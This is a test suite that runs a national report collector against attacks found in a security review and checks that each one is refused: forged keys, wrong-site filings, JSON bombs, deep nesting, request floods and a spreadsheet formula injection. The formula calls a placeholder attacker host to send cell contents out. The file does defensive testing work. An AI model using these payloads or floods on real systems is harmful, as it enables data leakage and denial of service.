import t from 'tap';
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { request } from 'node:https';
import { pino } from 'pino';
import { ReportOutbox } from '../../src/report/upload/report-outbox.js';
import { ReportUploader } from '../../src/report/upload/report-uploader.js';
import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { schemaDefinition } from '../../src/config/schema.js';
import { EnrolledKeys } from '../../src/report/enrolled-keys.js';
import { signReport, type SigningKey } from '../../src/report/signing.js';
import { collectorClient, type CollectorAnswer } from '../../src/report/upload/collector-client.js';
import { CLI } from '../bridge/fixtures.js';
import { until, within } from '../fixtures/bounded.js';
import { CollectorProcess } from '../fixtures/collector-process.js';
import { httpsGet } from '../fixtures/https-get.js';
import { enrolmentOf, fixtureReport, newSigningKey } from '../fixtures/national-reports.js';
import { TestCa } from '../fixtures/test-pki.js';

// The collector's intake against the attacks a security review reproduced, each against the
// real collector process over HTTPS: the attack fails with its coded reason, and the collector
// goes on taking the genuine reports of others. docs/collector-threats.md lists them.

const DAY = 86_400_000;

function cli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) =>
    execFile(process.execPath, [CLI, ...args], (err, stdout, stderr) => resolve({ code: err ? Number(err.code) : 0, stdout, stderr })),
  );
}

/** POST from a given loopback address; its status, or 'reset' when the collector cut it. */
function postFrom(url: string, body: string, ca: string, localAddress: string): Promise<string> {
  return new Promise((resolve) => {
    const req = request(url, { method: 'POST', ca, localAddress, timeout: 30_000, headers: { 'content-type': 'application/json' } }, (res) => {
      res.resume();
      res.on('end', () => resolve(String(res.statusCode)));
      res.on('error', () => resolve('reset'));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', (err) =>
      resolve((err as NodeJS.ErrnoException).code === 'ECONNRESET' || (err as NodeJS.ErrnoException).code === 'EPIPE' ? 'reset' : `error ${err.message}`),
    );
    req.end(body);
  });
}

function isoDaysAgo(days: number): string {
  return new Date(Date.now() - days * DAY).toISOString();
}

/** The fixture report for a site, run `daysAgo`, signed when it ended (as qualify does). */
function reportFor(
  key: SigningKey,
  o: { code: string; applianceId: string; daysAgo: number; edit?: (r: Record<string, any>) => void; signedAt?: Date },
): Record<string, unknown> {
  const r = fixtureReport() as Record<string, any>;
  r.report_id = randomUUID();
  r.started_at = isoDaysAgo(o.daysAgo);
  r.site = { ...r.site, establishment_code: o.code, appliance_id: o.applianceId };
  o.edit?.(r);
  return signReport(r, key, o.signedAt ?? new Date(Date.parse(r.started_at as string) + 60_000));
}

t.test('the intake holds against the reviewed attacks, over HTTPS, and keeps serving the genuine', async (t) => {
  const dir = t.testdir();
  const ca = new TestCa('usmp test national CA');
  t.teardown(() => ca.cleanup());
  const certificate = ca.issue('127.0.0.1', 'IP:127.0.0.1');
  chmodSync(certificate.keyFile, 0o600);

  const siteA = { key: newSigningKey(), applianceId: 'usmp-a', code: '0999001A' };
  const siteB = { key: newSigningKey(), applianceId: 'usmp-b', code: '0777777B' };
  const longExpired = { key: newSigningKey(), applianceId: 'usmp-old', code: '0888888C' };
  const justExpired = { key: newSigningKey(), applianceId: 'usmp-recent', code: '0888889D' };
  const toRevoke = { key: newSigningKey(), applianceId: 'usmp-lost', code: '0666666E' };
  const noCode = { key: newSigningKey(), applianceId: 'usmp-nocode', code: '0555555F' };
  const enrolments = [
    enrolmentOf(siteA.key, siteA.applianceId, { establishmentCode: siteA.code }),
    enrolmentOf(siteB.key, siteB.applianceId, { establishmentCode: siteB.code, region: 'DISP Paris' }),
    enrolmentOf(longExpired.key, longExpired.applianceId, {
      establishmentCode: longExpired.code,
      enrolledAt: '2024-01-01',
      expiresAt: isoDaysAgo(150).slice(0, 10),
    }),
    enrolmentOf(justExpired.key, justExpired.applianceId, {
      establishmentCode: justExpired.code,
      enrolledAt: '2024-01-01',
      expiresAt: isoDaysAgo(10).slice(0, 10),
    }),
    enrolmentOf(toRevoke.key, toRevoke.applianceId, { establishmentCode: toRevoke.code }),
    // an enrolment file written before establishment codes were required
    { ...enrolmentOf(noCode.key, noCode.applianceId), establishment_code: '' },
  ];
  const configFile = CollectorProcess.configFile(dir, { enrolments, tls: certificate });
  const collector = await CollectorProcess.start(configFile);
  t.teardown(() => collector.stop());
  t.match(collector.intakeUrl, /^https:/, 'the intake serves HTTPS');
  t.match(collector.url, /^https:/, "the people's door too");
  await collector.addUser('national-team', ['national']);
  const token = await collector.token('national-team');
  const post = collectorClient(collector.intakeUrl, ca.caFile, 10_000);
  const get = (path: string) => httpsGet(`${collector.url}${path}`, ca.caPem, 10_000, { authorization: `Bearer ${token}` });
  const sites = async () => (JSON.parse((await get('/api/v1/sites')).body) as { sites: Array<{ establishment_code: string; report_id: string }> }).sites;
  const refused = (answer: CollectorAnswer, status: number, code: string, what: string) => {
    t.equal(answer.status, status, `${what}: ${status}`);
    t.equal(answer.body.error?.code, code, `${what}: ${code} (${answer.body.error?.reason ?? ''})`);
  };

  t.test('defaults: loopback only, and no plain HTTP unless a TLS proxy is named', async (t) => {
    t.equal(schemaDefinition.collector.listen.default, '127.0.0.1:8443');
    const plain = join(dir, 'plain.json');
    writeFileSync(
      plain,
      JSON.stringify({
        collector: { listen: '127.0.0.1:0', database: join(dir, 'plain.sqlite'), appliances_file: join(dir, 'appliances.json') },
        log: { pretty: 'never' },
      }),
    );
    const run = await within('a collector without TLS to refuse to start', 20_000, cli(['--config', plain, 'collector']));
    t.equal(run.code, 2, 'it does not start');
    t.match(run.stderr, /USMP_E_CONFIG_INVALID: the collector serves HTTPS only/);
    t.match(
      collector.logLines.find((l) => l['event'] === 'collector.enrolments_incomplete'),
      { keys: [{ appliance_id: noCode.applianceId, key_id: noCode.key.keyId }] },
      'at start, the keys without an establishment code are named',
    );
  });

  t.test('a key speaks for its own establishment only', async (t) => {
    const answer = await post(JSON.stringify(reportFor(siteB.key, { code: siteA.code, applianceId: siteB.applianceId, daysAgo: 1 })));
    refused(answer, 403, 'USMP_E_REPORT_WRONG_SITE', 'the appliance of 0777777B filing for 0999001A');
    t.match(answer.body.error?.reason, /speaks for establishment 0777777B only/);
    t.notOk(
      (await sites()).some((s) => s.establishment_code === siteA.code),
      'no trace of it for 0999001A',
    );
    refused(
      await post(JSON.stringify(reportFor(noCode.key, { code: noCode.code, applianceId: noCode.applianceId, daysAgo: 1 }))),
      403,
      'USMP_E_ENROLMENT_INCOMPLETE',
      'a key enrolled without its establishment',
    );
    const moved = await post(
      JSON.stringify(reportFor(siteB.key, { code: siteB.code, applianceId: siteB.applianceId, daysAgo: 1, edit: (r) => (r.site.region = 'DISP Dijon') })),
    );
    refused(moved, 403, 'USMP_E_REPORT_WRONG_SITE', 'an appliance of DISP Paris declaring its site in DISP Dijon');
    t.match(moved.body.error?.reason, /in region "DISP Paris", but the report says "DISP Dijon"/);
  });

  t.test('the whole public key is compared, not its 64-bit id', async (t) => {
    const stranger = newSigningKey();
    const forged = reportFor(stranger, { code: siteA.code, applianceId: siteA.applianceId, daysAgo: 1 }) as Record<string, any>;
    forged.signature.key_id = siteA.key.keyId;
    refused(await post(JSON.stringify(forged)), 403, 'USMP_E_REPORT_KEY_UNKNOWN', 'the enrolled key id over another public key');
    const keys = new EnrolledKeys(enrolments);
    const octets = Buffer.from(siteA.key.publicKeyB64, 'base64');
    octets[31]! ^= 1;
    t.equal(keys.find(octets.toString('base64')), undefined, 'one bit off in the last octet: not found');
    t.ok(keys.find(siteA.key.publicKeyB64), 'the key itself is found');
  });

  t.test('a date the sender writes cannot pin the site status', async (t) => {
    const future = reportFor(siteA.key, {
      code: siteA.code,
      applianceId: siteA.applianceId,
      daysAgo: 0,
      edit: (r) => (r.started_at = '2099-01-01T00:00:00.000Z'),
      signedAt: new Date(),
    });
    refused(await post(JSON.stringify(future)), 422, 'USMP_E_REPORT_TIME', 'started_at 2099, signed now');
    const signedInFuture = reportFor(siteA.key, {
      code: siteA.code,
      applianceId: siteA.applianceId,
      daysAgo: 0,
      edit: (r) => (r.started_at = '2099-01-01T00:00:00.000Z'),
      signedAt: new Date('2099-01-01T00:01:00Z'),
    });
    refused(await post(JSON.stringify(signedInFuture)), 422, 'USMP_E_REPORT_TIME', 'started_at and signed_at 2099');
    // a report queued during an outage arrives after a newer one: the newer stays the status
    const newer = reportFor(siteA.key, { code: siteA.code, applianceId: siteA.applianceId, daysAgo: 2 });
    const older = reportFor(siteA.key, { code: siteA.code, applianceId: siteA.applianceId, daysAgo: 5 });
    t.equal((await post(JSON.stringify(newer))).status, 201);
    t.equal((await post(JSON.stringify(older))).status, 201, 'the late one is taken into the history');
    t.equal((await sites()).find((s) => s.establishment_code === siteA.code)?.report_id, newer['report_id'], 'the site shows its newer report');
  });

  t.test('expiry and revocation are judged at receipt', async (t) => {
    const backdated = reportFor(longExpired.key, { code: longExpired.code, applianceId: longExpired.applianceId, daysAgo: 200 });
    const answer = await post(JSON.stringify(backdated));
    refused(answer, 403, 'USMP_E_REPORT_KEY_EXPIRED', 'a key expired 150 days ago signing with a date before it expired');
    t.match(answer.body.error?.reason, /the grace for reports queued before that is over/);
    t.equal(
      (await post(JSON.stringify(reportFor(justExpired.key, { code: justExpired.code, applianceId: justExpired.applianceId, daysAgo: 15 })))).status,
      201,
      'a report signed before its key expired 10 days ago, queued meanwhile, is taken (30-day grace)',
    );

    t.equal(
      (await post(JSON.stringify(reportFor(toRevoke.key, { code: toRevoke.code, applianceId: toRevoke.applianceId, daysAgo: 3 })))).status,
      201,
      'before revocation',
    );
    const revoke = await cli(['--config', configFile, 'collector', 'revoke', '--key-id', toRevoke.key.keyId]);
    t.equal(revoke.code, 0, revoke.stderr);
    const appliancesFile = join(dir, 'appliances.json');
    const revokedAfter = reportFor(toRevoke.key, { code: toRevoke.code, applianceId: toRevoke.applianceId, daysAgo: 1 });
    refused(await post(JSON.stringify(revokedAfter)), 403, 'USMP_E_REPORT_KEY_REVOKED', 'a revoked key');
    t.match(JSON.parse(readFileSync(appliancesFile, 'utf8')), { appliances: [{}, {}, {}, {}, { key_id: toRevoke.key.keyId, revoked_at: String }] });
    t.ok(
      (await sites()).some((s) => s.establishment_code === toRevoke.code),
      'what was taken before stays',
    );

    const fill = await cli([
      '--config',
      configFile,
      'collector',
      'enroll',
      '--appliance-id',
      noCode.applianceId,
      '--public-key',
      noCode.key.publicKeyB64,
      '--establishment-code',
      noCode.code,
      '--region',
      'DISP Paris',
    ]);
    t.equal(fill.code, 0, fill.stderr);
    t.equal(
      (await post(JSON.stringify(reportFor(noCode.key, { code: noCode.code, applianceId: noCode.applianceId, daysAgo: 1 })))).status,
      201,
      'once its code is set, the key is trusted for that site',
    );
  });

  t.test('documents are bounded and refused cheaply', async (t) => {
    const bomb = reportFor(siteA.key, {
      code: siteA.code,
      applianceId: siteA.applianceId,
      daysAgo: 1,
      edit: (r) => (r.details.load.up.throughput.up.series_mbps = { length: 1_000_000 }),
    });
    const bombText = JSON.stringify(bomb);
    const health: number[] = [];
    const times: number[] = [];
    for (let i = 0; i < 5; i++) {
      const started = performance.now();
      const [answer, h] = await Promise.all([post(bombText), httpsGet(`${collector.intakeUrl}/health`, ca.caPem, 10_000)]);
      times.push(performance.now() - started);
      health.push(h.ms);
      refused(answer, 422, 'USMP_E_REPORT_SCHEMA', `details bomb ${i + 1}`);
    }
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
    t.ok(median(times) < 50, `a details bomb is refused at intake in under 50 ms (median ${median(times).toFixed(1)} ms, a new TLS connection each)`);
    t.ok(median(health) < 100, `/health meanwhile answers in under 100 ms (median ${median(health).toFixed(1)} ms)`);
    t.equal((await get('/export/pscheduler.ndjson')).status, 200, 'the pScheduler export still serves everyone');

    // duplicate members: one text two readers could read two ways
    const genuine = reportFor(siteB.key, { code: siteB.code, applianceId: siteB.applianceId, daysAgo: 1 });
    const genuineText = JSON.stringify(genuine);
    const twoVerdicts = genuineText.replace(/"verdict":"([^"]+)"/, '"verdict":"$1","verdict":"pass"');
    t.not(twoVerdicts, genuineText);
    const dup = await post(twoVerdicts);
    refused(dup, 400, 'USMP_E_REPORT_MALFORMED', 'a duplicate member');
    t.match(dup.body.error?.reason, /duplicate member "verdict"/);
    const real = await post(genuineText);
    t.equal(real.status, 201, 'the genuine report is then stored, not called a duplicate');

    // nesting that would overflow a recursive parser
    const deep = `{"signature":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    refused(await post(deep), 400, 'USMP_E_REPORT_MALFORMED', '100 000 levels of nesting');

    // an anonymous 512 KiB POST: refused on its unknown key before the schema and the signature
    const stranger = newSigningKey();
    const big = signReport({ ...(fixtureReport() as object), padding: 'x'.repeat(500 * 1024) }, stranger);
    const bigText = JSON.stringify(big);
    t.ok(bigText.length > 500 * 1024 && bigText.length <= 512 * 1024, `${bigText.length} bytes`);
    const bigTimes: number[] = [];
    for (let i = 0; i < 5; i++) {
      const started = performance.now();
      refused(
        await post(bigText),
        403,
        'USMP_E_REPORT_KEY_UNKNOWN',
        `anonymous 512 KiB POST ${i + 1} (its padding breaks the schema too: the key is looked up first)`,
      );
      bigTimes.push(performance.now() - started);
    }
    t.comment(`anonymous 512 KiB POST refused in ${median(bigTimes).toFixed(1)} ms (median of 5, upload included)`);

    refused(
      await post(
        JSON.stringify({
          ...(fixtureReport() as object),
          signature: { algorithm: 'Ed25519', key_id: 'x', public_key: 'not a key', signed_at: 'now', value: '' },
        }),
      ),
      403,
      'USMP_E_REPORT_SIGNATURE',
      'a signature member of the wrong shape',
    );
  });

  t.test('exports are spreadsheet-safe', async (t) => {
    const injected = reportFor(siteB.key, {
      code: siteB.code,
      applianceId: siteB.applianceId,
      daysAgo: 3,
      edit: (r) => (r.site.establishment = '=HYPERLINK("https://attacker.invalid/?"&A1,"Ouvrir")'),
    });
    t.equal((await post(JSON.stringify(injected))).status, 201);
    const csv = (await get('/export/reports.csv')).body.split('\r\n').find((l) => l.startsWith(injected['report_id'] as string))!;
    t.match(csv, /,"'=HYPERLINK\(""https:\/\/attacker\.invalid/, 'the formula reaches the export as text');
    t.match(csv, /,checked(,[^,]*){8}$/, "the collector checked enrolment (then the site's live columns and its acts)");
  });

  t.test('a malformed address is a 400, not a 500', async (t) => {
    const answer = await get('/sites/%E0%A4%A');
    t.equal(answer.status, 400);
    t.match(JSON.parse(answer.body), { error: { code: 'USMP_E_BAD_REQUEST' } });
    t.match(JSON.parse((await get('/nothing-here')).body), { error: { code: 'USMP_E_NOT_FOUND' } });
  });

  t.test('200 anonymous 512 KiB POSTs a second from 4 addresses are limited; an enrolled appliance still gets its report in', async (t) => {
    const stranger = newSigningKey();
    const big = JSON.stringify(signReport({ ...(fixtureReport() as object), padding: 'x'.repeat(500 * 1024) }, stranger));
    const outcomes: Record<string, number> = {};
    const flood = async (localAddress: string): Promise<void> => {
      const inFlight: Array<Promise<void>> = [];
      for (let i = 0; i < 150; i++) {
        inFlight.push(postFrom(`${collector.intakeUrl}/api/v1/reports`, big, ca.caPem, localAddress).then((o) => void (outcomes[o] = (outcomes[o] ?? 0) + 1)));
        await new Promise((r) => setTimeout(r, 20)); // 50 a second from each address
      }
      await Promise.all(inFlight);
    };
    const appliance = reportFor(siteB.key, { code: siteB.code, applianceId: siteB.applianceId, daysAgo: 4 });
    const outbox = new ReportOutbox(join(dir, 'appliance-outbox'));
    outbox.enqueue(JSON.stringify(appliance));
    const uploader = new ReportUploader({ outbox, post, log: pino({ level: 'silent' }), expiryDays: 30, retryMinS: 0.2, retryMaxS: 2 });
    const flooding = Promise.all(['127.0.0.2', '127.0.0.3', '127.0.0.4', '127.0.0.5'].map(flood));
    // the flood at its height: each address past its limit
    await new Promise((r) => setTimeout(r, 1_500));
    const started = performance.now();
    uploader.start();
    t.teardown(() => uploader.stop());
    await until("the enrolled appliance's report to be taken during the flood", 30_000, () => outbox.count() === 0);
    const tookMs = performance.now() - started;
    await within('the flood to end', 120_000, flooding);
    t.comment(
      `flood outcomes: ${JSON.stringify(outcomes)}; the appliance's report, sent 1.5 s into the flood, was taken ${(tookMs / 1000).toFixed(1)} s later`,
    );
    const examined = outcomes['403'] ?? 0;
    t.ok(examined <= 4 * 60, `at most 60 a minute from each address were examined (${examined})`);
    t.ok((outcomes['429'] ?? 0) + (outcomes['reset'] ?? 0) >= 600 - 4 * 60, `the rest were refused before being read (${outcomes['429'] ?? 0} × 429)`);
    t.equal(outcomes['500'] ?? 0, 0, 'no 500');
  });

  t.test('through all of it, the collector kept serving', async (t) => {
    const status = JSON.parse((await get('/api/v1/status')).body) as { status: string; intake: { stored: number; rejected: number } };
    t.equal(status.status, 'ok');
    t.equal(status.intake.stored, 8, 'every genuine report was stored');
    t.ok(status.intake.rejected >= 20, `the attacks were refused (${status.intake.rejected})`);
    t.notOk(
      collector.logLines.some((l) => l['event'] === 'collector.request_failed'),
      'no request failed inside the collector',
    );
  });
});
